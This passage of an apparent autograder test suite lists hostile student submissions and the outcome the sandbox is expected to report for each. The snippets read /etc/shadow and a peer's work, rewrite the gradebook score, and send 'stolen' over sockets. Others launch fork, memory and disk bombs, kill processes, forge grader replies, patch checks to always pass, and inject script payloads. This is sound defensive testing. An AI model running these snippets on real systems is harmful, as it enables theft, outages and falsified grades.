    Hostile("folder-link", "the folder is a link to a peer's", arrange=_folder_link, earned=NOTHING, flag="is a link"),
    Hostile("pipes", "pipes and devices", READ_ALL, arrange=_pipes, flag="is a pipe", says=r"THERE \[\]"),
    Hostile("folders-for-files", "a file where the course has a folder", arrange=_folders_for_files),
    Hostile("no-time", "a timestamp that is none", files={"timestamp.txt": b"\xff\x00 yesterday"}, flag="no time"),
    Hostile(
        "future", "a timestamp far in the future", files={"timestamp.txt": b"9999-01-01 00:00:00 UTC"}, flag="future that it was not taken"
    ),
    Hostile(
        "time-zone-file", "a timestamp whose zone is a path", files={"timestamp.txt": b"2020-01-01 00:00:00 /etc/passwd"}, flag="no time"
    ),
]

# --- the machine ----------------------------------------------------------------------------------

SEARCH = """\
import os, sys, time
marker, started = ("a-secret-of-" + "somebody" + "-else-5f0c").encode(), time.monotonic()
seen, found = 0, []
skipped = ("/sys", "/usr", "/lib", "/bin", "/sbin", os.path.realpath(sys.prefix), sys.prefix, os.path.realpath(sys.base_prefix))
for folder, folders, files in os.walk("/", followlinks=False):
    if folder.startswith(skipped) or folder.count("/task/"):
        folders[:] = []
        continue
    if time.monotonic() - started > 1.5:  # of the 2 seconds that a cell has
        break
    for name in files:
        path = os.path.join(folder, name)
        if name in ("gradebook.db", "nbgrader_config.py", "trusted.py") or ".ipynb" in name and "hostile" not in path and not path.startswith(os.getcwd()):
            found.append(path)
        if name in ("kmsg", "pagemap", "clear_refs", "mem") or path.startswith("/dev"):
            continue
        try:
            with open(path, "rb") as file:
                seen += 1
                if marker in file.read(3_000_000):
                    found.append(path)
        except OSError:
            pass
print("SEARCHED", seen > 10, "FOUND", found)
"""
MACHINE = [
    Hostile("search", "looks for others' work through all files of the machine", SEARCH, says=r"SEARCHED True FOUND \[\]"),
    Hostile(
        "known-paths",
        "opens gradebook, source, solutions, peers and tests by their paths",
        "import os, sqlite3\nread = []\n"
        "for path in ('@COURSE@/gradebook.db', '@COURSE@/source/small/small.ipynb', '@COURSE@/submitted/aa-peer/small/notes.txt',\n"
        "             '@COURSE@/nbgrader_config.py', '@CHECKOUT@/solutions/01_chain_rule.py', '@CHECKOUT@/tests/grading/hostile.py',\n"
        "             '/root/.bashrc', '/etc/hostname', '/etc/shadow'):\n"
        "    try: open(path).read(); read.append(path)\n    except OSError: pass\n"
        "try:\n    db = sqlite3.connect('@COURSE@/gradebook.db'); db.execute('update grade set auto_score = 99'); db.commit(); read.append('db')\n"
        "except Exception as error: pass\nprint('OPENED', read)",
        says=r"OPENED \[\]",
    ),
    Hostile(
        "memory-of-others",
        "reads the memory of other processes, and its parents'",
        "import os, ctypes\nread = []\n"
        "for pid in [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:\n"
        "    for name in ('mem', 'environ', 'maps', 'root/etc/passwd', 'cwd/x'):\n"
        "        try: open(f'/proc/{pid}/{name}', 'rb').read(10); read.append((pid, name))\n        except OSError: pass\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "for pid in [os.getppid(), 1, *range(2, 40)]:\n    if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0: read.append(('ptrace', pid))\n"
        "print('READ', read)",
        says=r"READ \[\]",
    ),
    Hostile(
        "own-memory",
        "looks in its own memory for the tests",
        "import re\nhits = 0\npattern = re.compile(rb'ran[g]e\\(-3, 9')  # which is not its own match\ntry:\n    maps = open('/proc/self/maps').readlines()\n"
        "except OSError:\n    maps = []\nfor line in maps:\n    low, high = (int(part, 16) for part in line.split()[0].split('-'))\n"
        "    if 'rw' in line.split()[1] and high - low < 50_000_000:\n        try:\n            with open('/proc/self/mem', 'rb') as file:\n"
        "                file.seek(low); hits += bool(pattern.search(file.read(high - low)))\n        except (OSError, OverflowError, ValueError): pass\n"
        "print('SECRETS', hits)",
        says="SECRETS 0",
    ),
    Hostile(
        "network",
        "connects to a server of the test, by TCP, UDP, a file and an abstract name",
        "import socket\nreached = []\n"
        "for family, kind, where in ((socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', @PORT@)), (socket.AF_UNIX, socket.SOCK_STREAM, '@SOCKET@'),\n"
        "                            (socket.AF_UNIX, socket.SOCK_STREAM, '\\0@ABSTRACT@'), (socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', @UDP@)),\n"
        "                            (socket.AF_INET, socket.SOCK_STREAM, ('1.1.1.1', 53)), (socket.AF_INET6, socket.SOCK_STREAM, ('::1', @PORT@))):\n"
        "    try:\n        s = socket.socket(family, kind); s.settimeout(0.2); s.connect(where); s.send(b'stolen'); reached.append(str(where))\n"
        "    except OSError: pass\nprint('REACHED', reached)",
        says=r"REACHED \[\]",
    ),
    Hostile(
        "daemon",
        "leaves a process behind that ignores every polite signal",
        "import os, signal, time, ctypes\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP): signal.signal(number, signal.SIG_IGN)\n"
        "        ctypes.CDLL(None).prctl(15, b'hostiledaemon', 0, 0, 0)\n        os.closerange(0, 200)\n        time.sleep(600)\n    os._exit(0)\n"
        "os.wait(); print('LEFT BEHIND')",
        says="LEFT BEHIND",
    ),
    Hostile(
        "fork-bomb",
        "as many processes as there can be",
        "import os, time\ntry:\n    while True:\n        if os.fork() == 0:\n            time.sleep(60)\n            os._exit(0)\nexcept OSError:\n    print('ENOUGH')",
        says="ENOUGH|could not be read",  # seldom, the answer itself fails among so many processes, and a person is told that
    ),
    Hostile(
        "memory-bomb",
        "as much memory as there is",
        "kept = []\ntry:\n    while True: kept.append(bytearray(50_000_000))\nexcept MemoryError:\n    kept.clear(); print('ENOUGH')",
        says="ENOUGH",
    ),
    Hostile(
        "disk-bomb",
        "fills the disk",
        "written = 0\ntry:\n    while True:\n        with open(f'/tmp/{written}', 'wb') as f: f.write(b'x' * 5_000_000)\n        written += 1\nexcept OSError:\n    print('ENOUGH')",
        says="ENOUGH",
    ),
    Hostile(
        "kill-all",
        "kills every process that it can",
        "import os, signal\ntry: os.kill(-1, signal.SIGKILL)\nexcept OSError: pass\ntry: os.kill(os.getppid(), signal.SIGKILL)\nexcept OSError: pass",
    ),
    Hostile("long-cell", "a loop without end", "while True: pass", says="longer than a cell may take"),
    Hostile("endless-answer", "an answer that never comes", answers={"double": "def double(x):\n    while True: pass"}),
    Hostile(
        "blocked-signals",
        "a loop that hears no signal",
        "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\nsignal.setitimer(signal.ITIMER_REAL, 0)\nwhile True: pass",
        flag="was lost in cell 1",
    ),
    Hostile(
        "in-c",
        "a computation in C without end",
        answers={"double": "def double(x):\n    return 7 ** (10 ** 9)"},
    ),
    Hostile("regex", "a regular expression without end", "import re\nre.match('(a+)+$', 'a' * 60 + 'b')"),
    Hostile(
        "exit",
        "ends its process in a test",
        answers={"dense": "def dense(X, W):\n    __import__('os')._exit(0)"},
        flag="was lost in the test dense",
    ),
    Hostile(
        "exits-everywhere",
        "ends its process whenever it can",
        "import os",
        answers={name: f"def {name}(*a):\n    os._exit(0)" for name in WORTH if name != "vector"} | {"vector": "os._exit(0)"},
        earned=NOTHING,
        flag="was lost",
    ),
    Hostile("segfault", "writes to memory that is not its own", "import ctypes\nctypes.string_at(0)", flag="SIGSEGV"),
    Hostile("stops-itself", "stops itself", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
    Hostile("closes-the-line", "closes every open file", "import os\nos.closerange(0, 1000)", flag="was lost in cell 1"),
    Hostile(
        "garbage-on-the-line",
        "writes random bytes to every open file",
        "import os\nfor fd in range(3, 100):\n    try: os.write(fd, os.urandom(5000))\n    except OSError: pass",
        own_loss=True,
    ),
    Hostile(
        "half-a-reply",
        "begins a long reply and never ends it",
        "import os, struct, threading, time\ndef half():\n    for fd in range(3, 100):\n        try: os.write(fd, struct.pack('!i', 5_000_000) + b'x')\n        except OSError: pass\n    time.sleep(60)\nhalf()",
        flag="was lost in cell 1",
    ),
]

FORGE = """\
import os, struct
from autograder.running import codec
def send(value, reference=None):
    data = value if type(value) is bytes else codec.encode(value)
    for fd in range(3, 100):
        try: os.write(fd, struct.pack('!i', len(data)) + data)
        except OSError: pass
"""
LINE = [
    Hostile(name, tries, FORGE + cell, flag=flag, own_loss=True)
    for name, tries, cell, flag in (
        ("forged-reply", "forges replies to what will be asked next", "for _ in range(30): send(['value', 9, [], [], None, 0])", ""),
        (
            "forged-outputs-on-the-line",
            "forges outputs of a cell with a score",
            "send([{'output_type': 'execute_result', 'data': {'text/plain': '3.0', 'text/html': '<script>alert(1)</script>'}, 'metadata': {'x': {}}, 'execution_count': '<b>'}, {'output_type': 'error'}, {'output_type': ['x'], 'data': 5}, {'output_type': 'stream', 'text': {'a': 1}}])",
            "",
        ),
        (
            "huge-outputs",
            "forges more output than a cell may show",
            "send([{'output_type': 'stream', 'name': 'stdout', 'text': 'x' * 30_000_000}] + [{'output_type': 'display_data', 'data': {}, 'metadata': {}}] * 50_000)",
            "",
        ),
        (
            "forged-callback",
            "asks for functions that nobody handed over",
            "for n in (0, -1, 5, 'a', None): send(['callback', n, [], {}])",
            "",
        ),
        (
            "unknown-handle",
            "refers to objects that there are not",
            "import msgpack\nsend(msgpack.packb([msgpack.ExtType(14, msgpack.packb([n])) for n in (0, -1, 2**40, 'x', None)]))\nsend(msgpack.packb([msgpack.ExtType(15, msgpack.packb(77))]))",
            "",
        ),
        (
            "handles-in-outputs",
            "hides a reference in its outputs",
            "import msgpack\nsend(msgpack.packb([{'output_type': 'stream', 'name': 'stdout', 'text': msgpack.ExtType(14, msgpack.packb([0, {'kind': 'object', 'name': 'x'}]))}]))",
            "",
        ),
        (
            "giant-header",
            "announces two gigabytes",
            "for fd in range(3, 100):\n    try: os.write(fd, struct.pack('!i', -1) + struct.pack('!Q', 2**40))\n    except OSError: pass",
            "was lost",
        ),
        (
            "msgpack-bomb",
            "lists that announce millions of entries, within each other",
            "send(b'\\xdd\\x03\\xff\\xff\\xff' * 4_000_000)",
            "",
        ),
        (
            "deep-extensions",
            "values within values, thousands deep",
            "import msgpack\nx = b'\\xc0'\nfor _ in range(3000): x = msgpack.packb(msgpack.ExtType(1, x))\nsend(x)",
            "",
        ),
    )
]
LINE += [
    Hostile(
        "forged-errors",
        "names exceptions that end a test quietly",
        "from autograder.running import student\n"
        "old = student.Student._describe_error\n"
        "def forged(self, error):\n    about = old(self, error)\n    about['builtin'] = str(error).split('.') if '.' in str(error) else about['builtin']\n"
        "    about['builtin'] = ['numpy.testing', 'SkipTest'] if 'skip' in str(error) else about['builtin']\n    return about\n"
        "student.Student._describe_error = forged",
        answers={
            "derivative": "def derivative(f, x):\n    raise RuntimeError('skip')",
            "double": "def double(x):\n    raise RuntimeError('skip')",
        },
        earned=without("derivative"),
    ),
    Hostile(
        "module-for-a-function",
        "gives the name of a module for the tests to import",
        answers={
            "double": "import types\ndouble = types.ModuleType('pip.__main__')",
            "dense": "dense = types.ModuleType('autograder.running.trusted')",
            "parity": "import types\nparity = types.ModuleType('antigravity')",
        },
    ),
    Hostile(
        "stops-after-its-reply",
        "holds Python's lock just after a reply, so that the next question is not taken",
        "import ctypes, threading, time\nthreading.Thread(target=lambda: (time.sleep(0.3), ctypes.PyDLL(None).sleep(60))).start()",
        edit=lambda made: made.cells.insert(1, nbformat.v4.new_code_cell("import time; time.sleep(0.2)\n# " + "x" * 900_000, id="long")),
        own_loss=True,
        flag="was lost in|took longer",
    ),
]

OURS = [
    Hostile(
        "check-replaced",
        "replaces the check of an exercise",
        last="ex.one_path.check = lambda *a, **k: 3.0\ntype(ex.one_path).check = lambda *a, **k: 3.0",
        answers={
            "one_path": WRONG["one_path"]
            + "\ntry:\n    type(ex.one_path).check = lambda *a, **k: 3.0\nexcept Exception as error:\n    print(error)"
        },
        gains_without_isolation=True,
    ),
    Hostile(
        "fake-ex",
        "binds ex to something else",
        answers={
            "one_path": WRONG["one_path"]
            + "\nclass Fake:\n    def __getattr__(self, name): return self\n    def check(self, *a, **k): return 3.0\nex = Fake()"
        },
        gains_without_isolation=True,
    ),
    Hostile(
        "oracle-patched",
        "patches PyTorch's gradients and the samples in the helper module",
        "import torch, backprop, sys\nfor module in [m for n, m in sys.modules.items() if n.startswith('backprop')]:\n    for name in dir(module):\n"
        "        if name in ('allclose', 'close', 'compare', 'judge', 'draw'):\n            setattr(module, name, lambda *a, **k: True)",
    ),
    Hostile(
        "strange-report",
        "values that would be scripts in the check's report",
        answers={"one_path": f"def one_path(x):\n    return {{'dy_dg': {SCRIPT!r}, {SCRIPT!r}: 1, 'dy_dx': [[{SCRIPT!r}]]}}"},
    ),
    Hostile(
        "strange-error",
        "an error whose text would be a script in the check's report",
        answers={"one_path": f"def one_path(x):\n    raise type('Bad', (ValueError,), {{}})({SCRIPT!r})"},
    ),
]
# --- values that break whoever reads them: five kinds in each submission, one for each wrong answer


def values(**expressions: str) -> dict[str, str]:
    """Answers that return these, whatever they are asked."""
    return {name: f"def {name}(*anything):\n    return {expression}" for name, expression in expressions.items()}


FORGE_TYPES = """\
import msgpack
from autograder.running import codec
class Forged:
    def __init__(self, code, *parts): self.code, self.parts = code, parts
codec._PACKERS = ((Forged, lambda value, again: msgpack.ExtType(value.code, again(*value.parts))), *codec._PACKERS)
"""
FORGE_REPLIES = """\
import numpy as np
from autograder.running import codec, student
true, asked = student.Student._do, {}
def forged(self, operation, target, *rest):
    asked[id(target)] = asked.get(id(target), 0) + 1
    return true(self, operation, target, *rest) if asked[id(target)] == 1 else codec.encode(REPLY)
student.Student._do = forged
"""
UNREADABLE = [
    Hostile(
        "broken-generators",
        "random number generators in states that there are not, and arrays of no data and endless rows",
        "def moved(kind, **change):\n    bits = getattr(np.random, kind)(1)\n    state = bits.state\n    inner = state if 'buffer_pos' in change else state['state']\n"
        "    inner.update(change)\n    bits.state = state\n    return np.random.Generator(bits)",
        answers=values(
            parity="moved('MT19937', pos=2**31 - 1)",
            sums="[moved('MT19937', pos=-5)] * 3",
            dense="moved('Philox', buffer_pos=10**6)",
            double="np.empty((2**40, 0))",
            one_path="np.random.RandomState(moved('MT19937', pos=700).bit_generator)",
        ),
    ),
    Hostile(
        "circular",
        "values that contain themselves, or are nested too deeply",
        "ring = []\nring.append(ring)\nknot = {}\nknot['x'] = (knot, [knot])\ndeep = []\nfor _ in range(50_000): deep = [deep]\n"
        "box = np.empty(1, object)\nbox[0] = box\nfrom collections import deque\nqueue = deque()\nqueue.append(queue)",
        answers=values(parity="ring", sums="knot", dense="box", double="deep", one_path="queue"),
    ),
    Hostile(
        "careless-objects",
        "objects that fail whenever anybody looks at them",
        "class Careless:\n    def __getattr__(self, name): raise KeyError(name)\n"
        "class Liar:\n    @property\n    def __class__(self): raise ValueError('no class')\n"
        "class Mute(Exception):\n    def __str__(self): raise KeyError('mute')\n    @property\n    def args(self): raise KeyError('args')\n"
        "class Endless:\n    def __getattr__(self, name): return Endless()\n    def __call__(self, *a, **k): return Endless()\n"
        "def fail(): raise Mute()",
        answers=values(parity="Careless()", sums="Liar()", dense="[Endless()] * 4", double="fail()", one_path="{'dy_dg': Careless()}"),
    ),
    Hostile(
        "forged-types",
        "plain data that is none: colliding sets, truth values of other bytes, characters that there are not, half numbers",
        FORGE_TYPES + "import numpy as np",
        answers=values(
            parity="Forged(codec.SET, [k * (2**61 - 1) for k in range(1, 30_000)])",
            sums="Forged(codec.RECORD, ['x', ['a'] * 400, [1] * 400])",
            dense="np.frombuffer(b'\\x02' * 6, dtype=bool).reshape(3, 2)",
            double="np.frombuffer(b'\\xff' * 12, dtype='<U1')",
            one_path="Forged(codec.TENSOR, ['float64', [3], b'12', True, None])",
        ),
    ),
    Hostile(
        "strange-numbers",
        "numbers that no comparison and no text survives",
        "from decimal import Decimal\nfrom fractions import Fraction\nimport datetime",
        answers=values(
            parity="Decimal('sNaN')",
            sums="[Fraction(1, 10**3000)] * 3",
            dense="np.full((3, 2), np.longdouble('nan'))",
            double="np.array(['2026-01-01', 'NaT'], dtype='datetime64[ns]')",
            one_path="{'dy_dg': Decimal('-Infinity'), 'dg_dx': datetime.timedelta.max}",
        ),
    ),
    Hostile(
        "names-that-break",
        "names of functions, types and errors that are long, half characters and line ends",
        "class Long(Exception): pass\nLong.__name__ = Long.__qualname__ = 'x' * 10**6\nodd = type('a\\nb\\x1b[31m', (), {})\n"
        "def shout(): raise Long('\\ud800' * 10 + '\\x1b]0;title\\x07')\n"
        "import warnings\ndef warn(): [warnings.warn('\\ud800\\x1b[31m' * 1000) for _ in range(3)]",
        answers=values(parity="shout()", sums="odd()", dense="warn()", double="odd", one_path="shout()")
        | {"double": "def double(x):\n    return 0\ndouble.__name__ = '\\ud800\\n' * 1000"},
    ),
    Hostile(
        "reply-of-a-dictionary",
        "answers a repeated call with a dictionary",
        FORGE_REPLIES.replace("REPLY", "{'value': np.zeros(3)}"),
        own_loss=True,
    ),
    Hostile("reply-of-arrays", "answers a repeated call with arrays", FORGE_REPLIES.replace("REPLY", "[np.zeros(3)] * 7"), own_loss=True),
]


def _marks_of_text(made: NotebookNode) -> None:
    for cell in made.cells:
        cell.metadata["tags"] = ["\x1b[31mred", "\u202eevil"]
    made.cells.append(
        nbformat.v4.new_code_cell("1", id="claims", metadata={"nbgrader": {"grade_id": "\x1b[2J\u2066", "grade": True, "points": 9}})
    )


def _deep(folder: Path, course: Path) -> None:
    inner = os.open(folder, os.O_RDONLY)
    for _ in range(18):
        os.mkdir("d" * 250, dir_fd=inner)
        outer, inner = inner, os.open("d" * 250, os.O_RDONLY, dir_fd=inner)
        os.close(outer)
    os.close(os.open("deep.txt", os.O_CREAT | os.O_WRONLY, dir_fd=inner))
    os.close(inner)


def _names_of_files(folder: Path, course: Path) -> None:
    for name in (b"\x1b[31mred.txt", b"two\nlines.txt", b"Jos\xe9.txt", b"\xe2\x80\xaeevil.txt"):
        (Path(os.fsdecode(os.fsencode(folder) + b"/" + name))).write_bytes(b"x")


WORDS = [
    Hostile("deep-folders", "folders so deep that they cannot be copied", arrange=_deep, flag="lies so deep"),
    Hostile(
        "names-of-files",
        "names of files with colours, line ends and other bytes",
        arrange=_names_of_files,
        flag="has a name that is no text",
    ),
    Hostile(
        "format-of-half",
        "half a character as the format",
        raw=lambda made: b'{"nbformat": "\\ud800", "cells": []}',
        earned=NOTHING,
        flag="format is",
    ),
    Hostile("marks-of-text", "tags and claims with colours", edit=_marks_of_text, flag="which the course does not have"),
    Hostile("antiquity", "a time before all calendars", files={"timestamp.txt": b"0001-01-01 00:00:00 UTC"}, flag="was not taken"),
]
HOSTILE = [*COMPARATORS, *MACHINERY, *VALUES, *OUTPUT, *TEXT, *FILES, *MACHINE, *LINE, *OURS, *UNREADABLE, *WORDS]
